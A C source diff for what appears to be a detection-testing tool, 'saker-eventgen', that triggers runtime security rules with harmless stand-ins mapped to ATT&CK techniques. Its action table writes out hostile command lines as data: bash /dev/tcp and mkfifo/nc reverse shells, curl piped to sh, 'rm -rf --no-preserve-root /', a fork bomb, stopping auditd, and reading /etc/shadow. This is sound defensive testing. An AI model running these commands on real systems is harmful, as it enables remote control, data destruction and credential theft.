+static int n_mkdir_bin(void)
 {
-	bool made_spool = access("/var/spool/cron", F_OK) != 0, made_tabs;
 	int rc;
 
-	mkdir("/var/spool/cron", 0755);
-	made_tabs = access("/var/spool/cron/crontabs", F_OK) != 0;
-	mkdir("/var/spool/cron/crontabs", 0730);
-	rc = create_and_remove("/var/spool/cron/crontabs/saker-eventgen");
-	if (made_tabs)
-		rmdir("/var/spool/cron/crontabs");
-	if (made_spool)
-		rmdir("/var/spool/cron");
+	tmpdir();
+	rc = mkdir(TMPDIR "/bin", 0755);
+	rmdir(TMPDIR "/bin");
 	return rc;
 }
 
-static int a_shell_config(void)
-{
-	tmpdir();
-	return create_and_remove(TMPDIR "/.bashrc");
-}
+static int a_cron(void) { return with_file("/var/spool/cron/crontabs/saker-eventgen", false); }
+static int n_cron(void) { return read_path("/etc/crontab") && read_path("/etc/hostname"); }
+static int a_at_spool(void) { return with_file("/var/spool/cron/atjobs/saker-eventgen", false); }
+static int n_at_spool(void) { return read_path("/etc/hostname"); }
+static int a_systemd_unit(void) { return with_file("/etc/systemd/system/saker-eventgen.tmp", false); }
+static int n_systemd_unit(void) { return read_path("/etc/systemd/system.conf") && read_path("/etc/hostname"); }
+static int a_systemd_timer(void) { return with_file(TMPDIR "/.config/systemd/user/saker-eventgen.timer", false); }
+static int n_systemd_timer(void) { return with_file(TMPDIR "/.config/saker-eventgen.timer", false); }
+static int a_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc"); }
+static int n_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc.orig"); }
+static int a_profile_d(void) { return with_file("/etc/profile.d/saker-eventgen.disabled", false); }
+static int n_profile_d(void) { return read_path("/etc/profile"); }
+static int a_authorized_keys(void) { return with_file(TMPDIR "/.ssh/authorized_keys", false); }
+static int n_authorized_keys(void) { return with_file(TMPDIR "/.ssh/authorized_keys.txt.bak", false); }
+/* sudo skips drop-ins whose name has a dot */
+static int a_sudoers_dropin(void) { return with_file("/etc/sudoers.d/saker-eventgen.test", false); }
+static int a_pam(void) { return with_file("/etc/pam.d/saker-eventgen", false); }
+static int a_ld_preload(void) { return touch_for_write("/etc/ld.so.preload"); }
+static int n_ld_preload(void) { return read_path("/etc/ld.so.conf"); }
+static int a_init_script(void) { return with_file("/etc/init.d/saker-eventgen", false); }
+static int a_udev_rule(void) { return with_file("/etc/udev/rules.d/saker-eventgen.tmp", false); }
+static int n_udev_rule(void) { return read_path("/etc/udev/udev.conf") && read_path("/etc/hostname"); }
+static int a_passwd_direct(void) { return touch_for_write("/etc/passwd"); }
 
-static int a_user_mgmt(void)
+/* a directory opened for reading: no file read, no file written */
+static int open_dir(const char *p)
 {
-	const char *p = TMPDIR "/useradd";
-	char *argv[] = { (char *)p, (char *)"--help", NULL };
-	int rc;
+	int fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
 
-	tmpdir();
-	unlink(p);
-	if (symlink("/bin/true", p))
+	if (fd < 0)
 		return -1;
-	rc = spawn(NULL, argv, -1);
-	unlink(p);
-	return rc;
+	close(fd);
+	return 0;
 }
+
+static int n_sudoers_dropin(void) { return open_dir("/etc/sudoers.d"); }
+static int n_pam(void) { return open_dir("/etc/pam.d"); }
+static int n_init_script(void) { return open_dir("/etc/init.d"); }
+
+/* ------------------------------------------------------------- privilege escalation */
 
 static int a_setuid_bit(void)
 {
-	const char *p = TMPDIR "/suid";
 	int rc;
 
 	tmpdir();
-	write_file(p, O_TRUNC, 0755);
-	rc = chmod(p, 04755);
-	unlink(p);
+	write_file(TMPDIR "/suid", O_TRUNC, 0755);
+	rc = chmod(TMPDIR "/suid", 04755);
+	unlink(TMPDIR "/suid");
+	return rc;
+}
+
+static int n_setuid_bit(void)
+{
+	int rc;
+
+	tmpdir();
+	write_file(TMPDIR "/suid", O_TRUNC, 0644);
+	rc = chmod(TMPDIR "/suid", 0755);
+	unlink(TMPDIR "/suid");
 	return rc;
 }
 
@@ -322,6 +944,15 @@ static int a_non_sudo_setuid(void)
 	return quiet_wait(pid);
 }
 
+static int n_non_sudo_setuid(void)
+{
+	pid_t pid = fork();
+
+	if (pid == 0)
+		_exit(setuid(getuid()) ? 1 : 0); /* root stays root */
+	return quiet_wait(pid);
+}
+
 static int a_setns(void)
 {
 	pid_t pid = fork();
@@ -334,22 +965,55 @@ static int a_setns(void)
 	return quiet_wait(pid);
 }
 
+static int n_setns(void) { return read_path("/proc/self/ns/uts"); }
+
+static int a_nsenter(void)
+{
+	char pid[16];
+	char *argv[] = { (char *)"/usr/bin/nsenter", (char *)"-t", pid, (char *)"-u", (char *)"/bin/true", NULL };
+
+	snprintf(pid, sizeof(pid), "%d", (int)getpid()); /* its own uts namespace */
+	return spawn(NULL, argv, -1);
+}
+
+static int n_nsenter(void)
+{
+	char *argv[] = { (char *)"/usr/bin/nsenter", (char *)"--version", NULL };
+
+	return spawn(NULL, argv, -1);
+}
+
+static int unshare_child(int flags)
+{
+	pid_t pid = fork();
+
+	if (pid == 0)
+		_exit(unshare(flags) ? 1 : 0);
+	return quiet_wait(pid);
+}
+
+static int a_userns(void) { return unshare_child(CLONE_NEWUSER); }
+static int n_userns(void) { return unshare_child(CLONE_NEWUTS); }
+
 static int a_ptrace_attach(void)
 {
-	pid_t kid = fork();
-	int rc;
+	pid_t kid = sleeper();
+	int rc = ptrace(PTRACE_ATTACH, kid, 0, 0);
 
-	if (kid == 0) {
-		pause();
-		_exit(0);
-	}
-	rc = ptrace(PTRACE_ATTACH, kid, 0, 0);
 	if (rc == 0) {
 		waitpid(kid, NULL, 0);
 		ptrace(PTRACE_DETACH, kid, 0, 0);
 	}
-	kill(kid, SIGKILL);
-	waitpid(kid, NULL, 0);
+	reap(kid);
+	return rc;
+}
+
+static int n_ptrace(void)
+{
+	pid_t kid = sleeper();
+	int rc = kill(kid, 0);
+
+	reap(kid);
 	return rc;
 }
 
@@ -362,51 +1026,19 @@ static int a_ptrace_traceme(void)
 	return quiet_wait(kid);
 }
 
-static int a_clear_log(void)
-{
-	const char *p = "/var/log/saker-eventgen.log";
-	int rc;
-
-	write_file(p, 0, 0644);
-	rc = write_file(p, O_TRUNC, 0644);
-	unlink(p);
-	return rc;
-}
-
-static int a_history_delete(void)
-{
-	tmpdir();
-	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
-	return unlink(TMPDIR "/.bash_history");
-}
-
-static int a_symlink_sensitive(void)
-{
-	const char *p = TMPDIR "/shadow-link";
-	int rc;
-
-	tmpdir();
-	unlink(p);
-	rc = symlink("/etc/shadow", p);
-	unlink(p);
-	return rc;
-}
-
-static int a_hardlink_sensitive(void)
-{
-	const char *p = "/etc/saker-eventgen-hardlink";
-	int rc = link("/etc/shadow", p);
-
-	unlink(p);
-	return rc;
-}
-
 static int a_kernel_module(void)
 {
 	static const char junk[64] = "saker-eventgen: not a module";
 
 	syscall(SYS_init_module, junk, sizeof(junk), "");
 	return 0; /* the attempt is the behaviour; it fails harmlessly */
+}
+
+static int n_kernel_module(void)
+{
+	char *argv[] = { (char *)"/bin/true", NULL };
+
+	return spawn("modprobe", argv, -1); /* a module tool runs, no module syscall */
 }
 
 static int a_bpf_load(void)
@@ -418,15 +1050,191 @@ static int a_bpf_load(void)
 	return 0;
 }
 
-static int a_release_agent(void)
+static int n_bpf_load(void)
 {
-	tmpdir();
-	return create_and_remove(TMPDIR "/release_agent");
+	union bpf_attr attr;
+
+	memset(&attr, 0, sizeof(attr)); /* a map with no size: refused */
+	syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
+	return 0;
 }
 
-static int a_system_binary_network(void) { return udp_connect_as("cat", "192.0.2.1", 80); }
-static int a_ssh_nonstandard(void) { return udp_connect_as("ssh", "192.0.2.1", 2222); }
-static int a_miner_port(void) { return udp_connect_as(NULL, "192.0.2.1", 3333); }
+static int a_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent"); }
+static int n_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent.txt"); }
+static int a_core_pattern(void) { return touch_for_write("/proc/sys/kernel/core_pattern"); }
+static int n_core_pattern(void) { return read_path("/proc/sys/kernel/core_pattern"); }
+static int a_kernel_hardening(void) { return touch_for_write("/proc/sys/kernel/randomize_va_space"); }
+static int n_kernel_hardening(void) { return read_path("/proc/sys/kernel/randomize_va_space"); }
+
+static int a_runtime_socket(void)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	int srv, s, rc;
+
+	tmpdir();
+	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/docker.sock");
+	unlink(a.sun_path);
+	srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
+		return -1;
+	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	rc = s < 0 ? -1 : connect(s, (struct sockaddr *)&a, sizeof(a));
+	if (s >= 0)
+		close(s);
+	close(srv);
+	unlink(a.sun_path);
+	return rc;
+}
+
+static int n_runtime_socket(void)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	int srv, s, rc;
+
+	tmpdir();
+	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/app.sock");
+	unlink(a.sun_path);
+	srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
+		return -1;
+	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	rc = s < 0 ? -1 : connect(s, (struct sockaddr *)&a, sizeof(a));
+	if (s >= 0)
+		close(s);
+	close(srv);
+	unlink(a.sun_path);
+	return rc;
+}
+
+static int do_mount(void)
+{
+	/* in a container without CAP_SYS_ADMIN this is refused; the attempt is
+	 * the behaviour. On the host it runs in a private mount namespace. */
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		tmpdir();
+		mkdir(TMPDIR "/mnt", 0700);
+		if (unshare(CLONE_NEWNS) == 0)
+			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+		if (mount("saker-eventgen", TMPDIR "/mnt", "tmpfs", 0, "size=1m") == 0)
+			umount(TMPDIR "/mnt");
+		_exit(0);
+	}
+	quiet_wait(pid);
+	rmdir(TMPDIR "/mnt");
+	return 0;
+}
+
+static int a_container_drop(void)
+{
+	tmpdir();
+	return copy_self_and_run(TMPDIR "/dropped", NULL);
+}
+
+/* ------------------------------------------------------------- defense evasion (files) */
+
+static int a_clear_log(void)
+{
+	const char *p = "/var/log/saker-eventgen.log";
+	int rc;
+
+	write_file(p, 0, 0644);
+	rc = write_file(p, O_TRUNC, 0644);
+	unlink(p);
+	return rc;
+}
+
+static int truncate_log_as_logrotate(void)
+{
+	prctl(PR_SET_NAME, "logrotate", 0, 0, 0);
+	write_file("/var/log/saker-eventgen.log", 0, 0644);
+	return write_file("/var/log/saker-eventgen.log", O_TRUNC, 0644);
+}
+
+/* logrotate truncates a log, in a private /var/log (nothing is removed) */
+static int n_clear_log(void) { return in_private_tmpfs("/var/log", truncate_log_as_logrotate); }
+
+static int a_history_delete(void)
+{
+	tmpdir();
+	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
+	return unlink(TMPDIR "/.bash_history");
+}
+
+static int a_history_devnull(void)
+{
+	int rc;
+
+	tmpdir();
+	unlink(TMPDIR "/.zsh_history");
+	rc = symlink("/dev/null", TMPDIR "/.zsh_history");
+	unlink(TMPDIR "/.zsh_history");
+	return rc;
+}
+
+static int bash_rewrites_history(void)
+{
+	int fd;
+
+	prctl(PR_SET_NAME, "bash", 0, 0, 0);
+	fd = open(TMPDIR "/.bash_history", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+	if (fd < 0)
+		return -1;
+	close(fd);
+	return 0;
+}
+
+/* bash rewriting its own history file (mode 0600), in a private tmpfs */
+static int n_history(void)
+{
+	tmpdir();
+	return in_private_tmpfs(TMPDIR, bash_rewrites_history);
+}
+
+static int a_self_delete(void)
+{
+	const char *path = TMPDIR "/saker-eventgen-selfdel";
+	int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), dst, rc;
+	char buf[65536];
+	ssize_t n;
+	char *argv[] = { (char *)path, NULL };
+	char **envp = env_plus(SELFDEL_ENV "=1");
+	pid_t pid;
+
+	tmpdir();
+	unlink(path);
+	dst = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
+	if (src < 0 || dst < 0) {
+		if (src >= 0)
+			close(src);
+		return -1;
+	}
+	while ((n = read(src, buf, sizeof(buf))) > 0)
+		if (write(dst, buf, n) != n)
+			break;
+	close(src);
+	close(dst);
+	pid = fork();
+	if (pid == 0) {
+		execve(path, argv, envp);
+		_exit(127);
+	}
+	rc = quiet_wait(pid);
+	unlink(path); /* in case it could not */
+	return rc;
+}
+
+static int n_self_delete(void) { tmpdir(); return create_and_remove(TMPDIR "/own-output"); }
+
+/* ------------------------------------------------------------- network */
+
+static int a_system_binary_network(void) { return net_connect("cat", "192.0.2.1", 80, SOCK_STREAM); }
+static int n_system_binary_network(void) { return net_connect("curl", "192.0.2.1", 80, SOCK_STREAM); }
+static int a_ssh_nonstandard(void) { return net_connect("ssh", "192.0.2.1", 2222, SOCK_STREAM); }
+static int n_ssh_nonstandard(void) { return net_connect("ssh", "192.0.2.1", 22, SOCK_STREAM); }
+static int a_miner_port(void) { return net_connect(NULL, "192.0.2.1", 3333, SOCK_STREAM); }
+static int n_miner_port(void) { return net_connect(NULL, "192.0.2.1", 8080, SOCK_STREAM); }
 
 static int a_packet_socket(void)
 {
@@ -438,89 +1246,218 @@ static int a_packet_socket(void)
 	return 0;
 }
 
-static int a_stratum(void)
+static int a_raw_socket(void)
 {
-	char *argv[] = { (char *)"/bin/true", (char *)"--url", (char *)"stratum+tcp://pool.invalid:3333", NULL };
+	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
 
-	return spawn(NULL, argv, -1);
+	if (s < 0)
+		return -1;
+	close(s);
+	return 0;
+}
+
+static int n_raw_socket(void)
+{
+	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDP);
+
+	if (s < 0)
+		return -1;
+	close(s);
+	return 0;
+}
+
+static int n_packet_socket(void)
+{
+	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
+
+	if (s < 0)
+		return -1;
+	close(s);
+	return 0;
+}
+
+static int n_packet_socket_as_dhclient(void)
+{
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		prctl(PR_SET_NAME, "dhclient", 0, 0, 0);
+		_exit(n_packet_socket() ? 1 : 0);
+	}
+	return quiet_wait(pid);
 }
 
 static const struct action actions[] = {
-	{ "shell_from_server", "Shell spawned by server process", a_shell_from_server, "a process named nginx runs /bin/sh -c true" },
-	{ "database_spawn", "Database spawned process", a_db_spawn, "a process named mysqld runs /bin/true" },
-	{ "memfd_exec", "Fileless execution via memfd_create", a_memfd_exec, "copies /bin/true into a memfd and runs it with fexecve" },
-	{ "devshm_exec", "Execution from /dev/shm", a_devshm_exec, "copies /bin/true to /dev/shm, runs it, removes it" },
-	{ "netcat_exec", "Netcat remote code execution", a_netcat_exec, "runs /bin/true under the name nc with -e /bin/sh" },
-	{ "reverse_shell", "Reverse shell", a_reverse_shell, "a shell redirects stdin/stdout to a loopback TCP socket" },
-	{ "read_shadow", "Read sensitive file untrusted", a_read_shadow, "opens /etc/shadow for reading" },
-	{ "search_keys", "Search private keys or passwords", a_search_keys, "runs find -name id_rsa in an empty path" },
-	{ "read_ssh", "Read ssh information by non-ssh program", a_read_ssh, "reads a file in a temporary .ssh directory" },
-	{ "write_etc", "Write below etc", a_write_etc, "creates and removes /etc/saker-eventgen-test" },
-	{ "write_bin", "Write below binary dir;Modify binary dirs", a_write_bin, "creates and removes /usr/local/bin/saker-eventgen-test" },
-	{ "write_root", "Write below root", a_write_root, "creates and removes /saker-eventgen-test" },
-	{ "package_db", "Write to package database", a_pkg_db, "creates and removes a file in /var/lib/dpkg" },
-	{ "dev_file", "Create files below dev", a_dev_file, "creates and removes /dev/saker-eventgen-test" },
-	{ "mkdir_bin", "Modify binary dirs", a_mkdir_bin, "creates and removes a directory in /usr/local/bin" },
-	{ "cron", "Schedule cron jobs", a_cron, "writes and removes a crontab in /var/spool/cron/crontabs" },
-	{ "shell_config", "Modify shell configuration file", a_shell_config, "writes and removes a temporary .bashrc" },
-	{ "user_mgmt", "User management binary executed", a_user_mgmt, "runs /bin/true under the name useradd" },
-	{ "setuid_bit", "Set setuid or setgid bit", a_setuid_bit, "sets the setuid bit on a temporary file" },
-	{ "non_sudo_setuid", "Non sudo setuid", a_non_sudo_setuid, "a child becomes nobody and calls setuid" },
-	{ "setns", "Change namespace privileges via unexpected setns", a_setns, "a child calls setns on its own uts namespace" },
-	{ "ptrace_attach", "PTRACE attached to process", a_ptrace_attach, "attaches to its own sleeping child with ptrace" },
-	{ "ptrace_traceme", "PTRACE anti-debug attempt", a_ptrace_traceme, "a child calls ptrace(PTRACE_TRACEME)" },
-	{ "clear_log", "Clear log activities", a_clear_log, "truncates and removes /var/log/saker-eventgen.log" },
-	{ "history_delete", "Delete or rename shell history", a_history_delete, "removes a temporary .bash_history" },
-	{ "symlink_sensitive", "Create symlink over sensitive files", a_symlink_sensitive, "links /etc/shadow from a temporary symlink" },
-	{ "hardlink_sensitive", "Create hardlink over sensitive files", a_hardlink_sensitive, "hard-links /etc/shadow, then removes the link" },
-	{ "kernel_module", "Linux kernel module injection", a_kernel_module, "calls init_module with a non-module (refused)" },
-	{ "bpf_load", "BPF program loaded by unexpected program", a_bpf_load, "calls bpf(BPF_PROG_LOAD) with an empty program (refused)" },
-	{ "release_agent", "Detect release_agent file container escapes", a_release_agent, "writes a temporary file named release_agent" },
-	{ "system_binary_network", "System binary opened network connection", a_system_binary_network, "a process named cat UDP-connects to 192.0.2.1:80 (no packet)" },
-	{ "packet_socket", "Packet socket created", a_packet_socket, "opens and closes an AF_PACKET socket" },
-	{ "ssh_nonstandard_port", "Outbound ssh to non-standard port", a_ssh_nonstandard, "a process named ssh UDP-connects to 192.0.2.1:2222 (no packet)" },
-	{ "miner_pool_port", "Detect outbound connections to common miner pool ports", a_miner_port, "UDP-connects to 192.0.2.1:3333 (no packet)" },
-	{ "stratum_cmdline", "Detect crypto miners using the Stratum protocol", a_stratum, "runs /bin/true with a stratum+tcp URL argument" },
-	{ NULL, NULL, NULL, NULL },
+	/* execution */
+	{ "reverse_shell", "T1059.004", ANY, "Reverse shell", a_reverse_shell, n_reverse_shell, "a shell makes a loopback TCP socket its stdin/stdout" },
+	{ "bash_dev_tcp", "T1059.004", ANY, "Reverse shell;Reverse shell command line", a_bash_dev_tcp, n_bash_dev_tcp, "bash -c 'exec 1>/dev/tcp/127.0.0.1/PORT 0>&1' to a loopback listener" },
+	{ "python_reverse_shell", "T1059.006", ANY, "Reverse shell command line;Redirect stdio to network socket", a_python_reverse_shell, n_python_reverse_shell, "python3 -c: connects to a loopback listener and dup2s the socket onto stdin/stdout" },
+	{ "netcat_exec", "T1059.004", ANY, "Netcat remote code execution", a_netcat_exec, n_netcat_exec, "runs a no-op under the name nc with -e /bin/sh" },
+	{ "socat_exec", "T1059.004", ANY, "Netcat remote code execution", a_socat_exec, n_socat_exec, "runs a no-op under the name socat with EXEC:/bin/sh" },
+	{ "awk_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_awk_reverse_shell, n_awk_reverse_shell, "runs a no-op under the name gawk with an /inet/tcp one-liner" },
+	{ "perl_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_perl_reverse_shell, n_perl_reverse_shell, "runs a no-op under the name perl with a socket+exec one-liner" },
+	{ "php_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_php_reverse_shell, n_php_reverse_shell, "runs a no-op under the name php with an fsockopen one-liner" },
+	{ "ruby_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_ruby_reverse_shell, n_ruby_reverse_shell, "runs a no-op under the name ruby with a TCPSocket one-liner" },
+	{ "mkfifo_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_mkfifo_reverse_shell, n_mkfifo_reverse_shell, "sh -c 'true || (mkfifo f; cat f | sh -i | nc ...)' (the pipeline never runs)" },
+	{ "telnet_pipe", "T1059.004", ANY, "Reverse shell command line", a_telnet_pipe, n_telnet_pipe, "sh -c 'true || telnet ... | /bin/sh | telnet ...' (never runs)" },
+	{ "curl_pipe_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_curl_pipe_sh, n_curl_pipe_sh, "sh -c 'curl -fsSL URL | sh' with a no-op curl" },
+	{ "memfd_exec", "T1620", ANY, "Fileless execution via memfd_create", a_memfd_exec, n_plain_exec, "copies itself into a memfd and runs it (a no-op) with fexecve" },
+	{ "devshm_exec", "T1059", ANY, "Execution from /dev/shm", a_devshm_exec, n_devshm_exec, "copies itself to /dev/shm, runs it as a no-op, removes it" },
+	{ "tmp_exec", "T1204.002", ANY, "Execution from temporary directory", a_tmp_exec, n_plain_exec, "copies itself to /tmp/saker-eventgen, runs it as a no-op, removes it" },
+	{ "new_binary_exec", "T1105", HOST, "Execute newly written binary", a_new_binary_exec, n_plain_exec, "copies itself to /var/cache/saker-eventgen and runs it at once" },
+	{ "shell_from_server", "T1059.004", ANY, "Shell spawned by server process", a_shell_from_server, n_shell_from_server, "a process named nginx runs /bin/sh -c true" },
+	{ "database_spawn", "T1190", ANY, "Database spawned process", a_db_spawn, n_db_spawn, "a process named mysqld runs /bin/true" },
+	/* impact */
+	{ "miner_cmdline", "T1496", ANY, "Crypto miner executed", a_miner_cmdline, n_miner_cmdline, "a no-op named xmrig with a mining pool domain" },
+	{ "stratum_cmdline", "T1496", ANY, "Detect crypto miners using the Stratum protocol", a_stratum, n_stratum, "a no-op with a stratum+tcp URL argument" },
+	{ "miner_pool_port", "T1496", ANY, "Detect outbound connections to common miner pool ports", a_miner_port, n_miner_port, "TCP connect to 192.0.2.1:3333 inside a private network namespace" },
+	{ "wipe", "T1485", ANY, "Destructive wipe command", a_wipe, n_wipe, "a no-op named rm with -rf --no-preserve-root /" },
+	{ "fork_bomb", "T1499", ANY, "Fork bomb", a_fork_bomb, n_fork_bomb, "a no-op named bash with -c ':(){ :|:& };:'" },
+	{ "ransom_rename", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_rename, n_ransom_rename, "renames a temporary file to .locked, removes it" },
+	/* defense evasion */
+	{ "disable_security", "T1562.001", ANY, "Disable security tools", a_disable_security, n_disable_security, "a no-op named systemctl with stop auditd" },
+	{ "kernel_hardening", "T1562.001", HOST, "Weaken kernel security setting", a_kernel_hardening, n_kernel_hardening, "opens /proc/sys/kernel/randomize_va_space for writing, writes nothing" },
+	{ "timestomp", "T1070.006", ANY, "Timestomp file times", a_timestomp, n_timestomp, "touch -d '2001-01-01' on a temporary file" },
+	{ "clear_log", "T1070.002", ANY, "Clear log activities", a_clear_log, n_clear_log, "truncates and removes /var/log/saker-eventgen.log" },
+	{ "history_delete", "T1070.003", ANY, "Delete or rename shell history", a_history_delete, n_history, "removes a temporary .bash_history" },
+	{ "history_devnull", "T1070.003", ANY, "Delete or rename shell history", a_history_devnull, n_history, "links a temporary .zsh_history to /dev/null" },
+	{ "self_delete", "T1070.004", ANY, "Delete own executable", a_self_delete, n_self_delete, "a copy of itself in /tmp removes its own file" },
+	{ "package_db", "T1070", ANY, "Write to package database", a_pkg_db, n_pkg_db, "creates and removes a file in /var/lib/dpkg" },
+	{ "bpf_load", "T1014", ANY, "BPF program loaded by unexpected program", a_bpf_load, n_bpf_load, "calls bpf(BPF_PROG_LOAD) with an empty program (refused)" },
+	{ "ptrace_traceme", "T1622", ANY, "PTRACE anti-debug attempt", a_ptrace_traceme, n_ptrace, "a child calls ptrace(PTRACE_TRACEME)" },
+	/* persistence */
+	{ "cron", "T1053.003", ANY, "Schedule cron jobs", a_cron, n_cron, "writes and removes a crontab in /var/spool/cron/crontabs" },
+	{ "at_job", "T1053.002", ANY, "Schedule at job", a_at_job, n_at_job, "a no-op named at with 'now + 1 minute'" },
+	{ "at_spool", "T1053.002", ANY, "Schedule at job file", a_at_spool, n_at_spool, "writes and removes a file in /var/spool/cron/atjobs" },
+	{ "systemd_unit", "T1543.002", ANY, "Create or modify systemd unit", a_systemd_unit, n_systemd_unit, "writes and removes /etc/systemd/system/saker-eventgen.tmp" },
+	{ "systemd_timer", "T1053.006", ANY, "Create or modify systemd unit", a_systemd_timer, n_systemd_timer, "writes and removes a user timer under a temporary ~/.config/systemd/user" },
+	{ "shell_config", "T1546.004", ANY, "Modify shell configuration file", a_shell_config, n_shell_config, "writes and removes a temporary .bashrc" },
+	{ "profile_d", "T1546.004", ANY, "Modify shell configuration file", a_profile_d, n_profile_d, "writes and removes a file in /etc/profile.d (not *.sh: never sourced)" },
+	{ "authorized_keys", "T1098.004", ANY, "Modify ssh authorized keys", a_authorized_keys, n_authorized_keys, "writes and removes a temporary .ssh/authorized_keys" },
+	{ "sudoers_dropin", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_dropin, n_sudoers_dropin, "writes and removes /etc/sudoers.d/saker-eventgen.test (sudo skips names with a dot)" },
+	{ "pam", "T1556.003", ANY, "Modify PAM configuration", a_pam, n_pam, "writes and removes /etc/pam.d/saker-eventgen (no service uses it)" },
+	{ "ld_preload", "T1574.006", ANY, "Modify dynamic linker preload", a_ld_preload, n_ld_preload, "opens /etc/ld.so.preload for appending, writes nothing" },
+	{ "init_script", "T1037.004", ANY, "Modify init scripts", a_init_script, n_init_script, "writes and removes /etc/init.d/saker-eventgen" },
+	{ "udev_rule", "T1546", ANY, "Create udev rule", a_udev_rule, n_udev_rule, "writes and removes /etc/udev/rules.d/saker-eventgen.tmp (not *.rules: never loaded)" },
+	{ "new_user", "T1136.001", ANY, "Create user account", a_new_user, n_new_user, "a no-op named useradd with -m saker-eventgen-user" },
+	{ "user_mgmt", "T1136", ANY, "User management binary executed", a_user_mgmt, n_user_mgmt, "a no-op named passwd with -S root" },
+	{ "passwd_direct", "T1136.001", ANY, "Modify user database directly", a_passwd_direct, n_read_shadow, "opens /etc/passwd for appending, writes nothing" },
+	{ "kernel_module", "T1547.006", ANY, "Linux kernel module injection", a_kernel_module, n_kernel_module, "calls init_module with a non-module (refused)" },
+	{ "write_etc", "T1098", ANY, "Write below etc", a_write_etc, n_write_etc, "creates and removes /etc/saker-eventgen-test" },
+	{ "write_bin", "T1543", ANY, "Write below binary dir;Modify binary dirs", a_write_bin, n_write_bin, "creates and removes /usr/local/bin/saker-eventgen-test" },
+	{ "write_root", "T1543", ANY, "Write below root", a_write_root, n_write_root, "creates and removes /saker-eventgen-test" },
+	{ "dev_file", "T1036", ANY, "Create files below dev", a_dev_file, n_dev_file, "creates and removes /dev/saker-eventgen-test" },
+	{ "mkdir_bin", "T1222", ANY, "Modify binary dirs", a_mkdir_bin, n_mkdir_bin, "creates and removes a directory in /usr/local/bin" },
+	/* privilege escalation */
+	{ "setuid_bit", "T1548.001", ANY, "Set setuid or setgid bit", a_setuid_bit, n_setuid_bit, "sets the setuid bit on a temporary file" },
+	{ "setcap", "T1548", ANY, "Set file capabilities", a_setcap, n_setcap, "a no-op named setcap with cap_setuid+ep" },
+	{ "non_sudo_setuid", "T1548", ANY, "Non sudo setuid", a_non_sudo_setuid, n_non_sudo_setuid, "a child becomes nobody and calls setuid" },
+	{ "setns", "T1611", ANY, "Change namespace privileges via unexpected setns", a_setns, n_setns, "a child calls setns on its own uts namespace" },
+	{ "nsenter", "T1611", HOST, "Change namespace privileges via unexpected setns", a_nsenter, n_nsenter, "nsenter -t OWN_PID -u /bin/true (enters the namespace it is in)" },
+	{ "userns", "T1068", HOST, "Unexpected user namespace created", a_userns, n_userns, "a child calls unshare(CLONE_NEWUSER)" },
+	{ "ptrace_attach", "T1055.008", ANY, "PTRACE attached to process", a_ptrace_attach, n_ptrace, "attaches to its own sleeping child with ptrace" },
+	{ "proc_mem_write", "T1055.009", ANY, "Write to process memory", a_proc_mem_write, n_proc_mem, "opens its child's /proc/PID/mem for writing, writes nothing" },
+	{ "proc_mem_read", "T1003.007", ANY, "Read process memory", a_proc_mem_read, n_proc_mem, "opens its child's /proc/PID/mem for reading; process_vm_readv on it" },
+	{ "release_agent", "T1611", ANY, "Detect release_agent file container escapes", a_release_agent, n_release_agent, "writes a temporary file named release_agent" },
+	{ "core_pattern", "T1611", HOST, "Write to kernel core_pattern", a_core_pattern, n_core_pattern, "opens /proc/sys/kernel/core_pattern for writing, writes nothing" },
+	{ "runtime_socket", "T1611", CONTAINER, "Container runtime socket used from container", a_runtime_socket, n_runtime_socket, "connects to a unix socket named docker.sock it listens on" },
+	{ "container_mount", "T1611", CONTAINER, "Mount in container", do_mount, n_plain_exec, "calls mount(tmpfs) (refused in an unprivileged container)" },
+	{ "container_drop_exec", "T1204.002", CONTAINER, "Drop and execute new binary in container", a_container_drop, n_plain_exec, "copies itself to /tmp and runs the copy" },
+	{ "container_scan", "T1046", CONTAINER, "Network scanner run in container", a_container_scan, n_container_scan, "a no-op named nmap with a port range" },
+	{ "container_package", "T1072", CONTAINER, "Package management process launched in container", a_container_pkg, n_container_pkg, "a no-op named apt-get with install" },
+	/* credential access */
+	{ "read_shadow", "T1003.008", ANY, "Read sensitive file untrusted", a_read_shadow, n_read_shadow, "opens /etc/shadow for reading" },
+	{ "search_keys", "T1552.001", ANY, "Search private keys or passwords", a_search_keys, n_search_keys, "runs find -name id_rsa in an empty path" },
